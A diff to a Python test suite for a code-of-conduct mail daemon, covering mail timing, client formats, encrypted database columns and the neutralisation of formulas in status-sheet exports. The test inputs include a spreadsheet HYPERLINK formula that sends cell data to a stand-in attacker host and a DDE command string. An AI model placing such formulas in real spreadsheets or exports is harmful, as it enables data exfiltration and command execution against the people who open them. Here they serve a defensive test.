@@ -44,7 +44,7 @@ class Mail:
     def next(self, count: int, timeout: float = 20) -> list[Copy]:
         want = self.seen + count
         wait_for(lambda: len(self.d.delivered()) >= want, timeout, f"{count} more copies")
-        time.sleep(0.25)  # anything extra would show up now (and fail the next call)
+        time.sleep(0.15)  # anything extra would show up now (and fail the next call)
         got = self.d.delivered()
         assert len(got) == want, f"expected {count} new copies, got {len(got) - self.seen}: " \
             + ", ".join(f"{c.to} {c['Subject']}" for c in got[self.seen:])
@@ -264,13 +264,11 @@ def _thread_post(case: Opened, who: str) -> clients.Quoted:
         text="THREAD-SECRET: Grace thinks it was deliberate.", message_id="<p1@example.org>")
 
 
-FOLLOWUP_SHAPES = [
-    ("gmail", "en", "client", False), ("gmail", "fr", "quoted-printable", True),
-    ("gmail-android", "de", "base64", False), ("outlook", "en", "client", False),
-    ("outlook", "de", "base64", True), ("outlook-web", "es", "client", False),
+FOLLOWUP_SHAPES = [  # test_client_mail.py tries every client, language and encoding
+    ("gmail", "fr", "quoted-printable", True), ("gmail-android", "de", "base64", False),
+    ("outlook", "en", "client", False), ("outlook-web", "zh", "base64", True),
     ("apple-mail", "it", "quoted-printable", False), ("ios-mail", "ja", "client", False),
     ("thunderbird", "pl", "8bit", False), ("k9", "ru", "client", False),
-    ("outlook-web", "zh", "base64", True), ("thunderbird", "nl", "client", True),
 ]
 
 
@@ -431,7 +429,7 @@ def test_auto_replies_are_never_relayed_or_answered(d: Daemon, mail: Mail) -> No
         d.send(msg, sender="" if null else "ada@example.net", to=[case.address["ada"]])
         msg.replace_header("To", bounce)
         d.send(msg, sender="" if null else "ada@example.net", to=[bounce])
-    mail.nothing_more(2.0)
+    mail.nothing_more(1.5)
     assert "bounced" not in " ".join(str(c["Subject"]) for c in d.delivered())
 
 
@@ -472,34 +470,28 @@ FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'
 
 
 def test_status_exports_neutralise_formulas(d: Daemon, mail: Mail, tmp_path: Path) -> None:
+    """Two formulas set by mail, exported by the CLI (every form of formula is tried against
+    the export code in tests/test_units.py)."""
     case = open_case(d, mail)
     clear_all(d, mail, case)
-
-    def quoted(value: str) -> str:
-        return '"' + value.replace("\\", "\\\\").replace('"', '\\"') + '"'
-
-    for n in range(0, len(FORMULAS), 2):
-        actions, resolution = FORMULAS[n], FORMULAS[n + 1]
-        send_as(d, "ada", case.address["ada"],
-                f"/status actions={quoted(actions)} resolution={quoted(resolution)}")
-        assert "Status sheet updated" in mail.next(1)[0].text
-        rows = list(csv.reader(io.StringIO(d.cli("status", "--format", "csv").stdout)))
-        row = next(r for r in rows if r[3] == case.code)
-        xlsx = tmp_path / f"sheet{n}.xlsx"
-        d.cli("status", "--format", "xlsx", "--output", str(xlsx))
-        ws = load_workbook(xlsx).active
-        assert ws is not None
-        cells = next(r for r in ws.iter_rows() if r[3].value == case.code)
-        for column, value in ((5, actions), (6, resolution)):
-            stored = " ".join(value.split())  # the command line's spacing is normalised
-            assert row[column] == "'" + stored, (value, row[column])
-            assert cells[column].data_type == "s" and cells[column].value == stored, value
+    actions, resolution = FORMULAS[0], FORMULAS[1]
+    send_as(d, "ada", case.address["ada"],
+            f'/status actions="{actions.replace(chr(34), chr(92) + chr(34))}" '
+            f'resolution="{resolution}"')
+    assert "Status sheet updated" in mail.next(1)[0].text
+    rows = list(csv.reader(io.StringIO(d.cli("status", "--format", "csv").stdout)))
+    row = next(r for r in rows if r[3] == case.code)
+    assert row[5:7] == ["'" + actions, "'" + resolution]
+    d.cli("status", "--format", "xlsx", "--output", str(tmp_path / "sheet.xlsx"))
+    ws = load_workbook(tmp_path / "sheet.xlsx").active
+    assert ws is not None
+    cells = next(r for r in ws.iter_rows() if r[3].value == case.code)
+    assert [(c.data_type, c.value) for c in cells[5:7]] == [("s", actions), ("s", resolution)]
     send_as(d, "ada", case.address["ada"], '/status actions="a \\\\| b | c" resolution="x\\\\"')
     mail.next(1)
     md = d.cli("status", "--format", "md").stdout
     line = next(x for x in md.splitlines() if case.code in x)
-    cells_md = re.split(r"(?<!\\)\|", line.strip().strip("|"))
-    assert len(cells_md) == 7, line
+    assert len(re.split(r"(?<!\\)\|", line.strip().strip("|"))) == 7, line
 
 
 # -- 9. one message never stalls the others -------------------------------------------------
@@ -573,12 +565,17 @@ def test_the_database_without_the_key_shows_no_standings_actions_or_sections(
     db = sqlite3.connect(d.var / "coc-mail.db")
     try:
         assert db.execute("SELECT count(*) FROM case_members").fetchone()[0] > 0
-        values = [v for table, cols in (("case_members", "state"), ("audit_log", "action"),
-                                        ("doc_entries", "section"))
-                  for (v,) in db.execute(f"SELECT {cols} FROM {table}")]
+        columns = {(table, column): [v for (v,) in db.execute(
+            f"SELECT {column} FROM {table}")]  # noqa: S608 - the test's own names
+            for table, column in (("case_members", "state"), ("audit_log", "action"),
+                                  ("audit_log", "actor"), ("doc_entries", "section"),
+                                  ("doc_entries", "author"), ("sent_copies", "role"))}
     finally:
         db.close()
-    assert values and all(isinstance(v, bytes) and v[:1] == b"\x01" for v in values)
+    for where, values in columns.items():
+        assert values and all(isinstance(v, bytes) and v[:1] == b"\x02" for v in values), where
+        # Padded: a standing, an actor or a section cannot be told apart by its length.
+        assert len({len(v) for v in values}) <= (2 if where[1] == "action" else 1), where
     data = b"".join(p.read_bytes() for p in d.var.glob("coc-mail.db*"))
     for word in (b"cleared", b"recused", b"notified", b"conflicted", b"organizers",
                  b"conflict check started", b"member recused", b"note added",
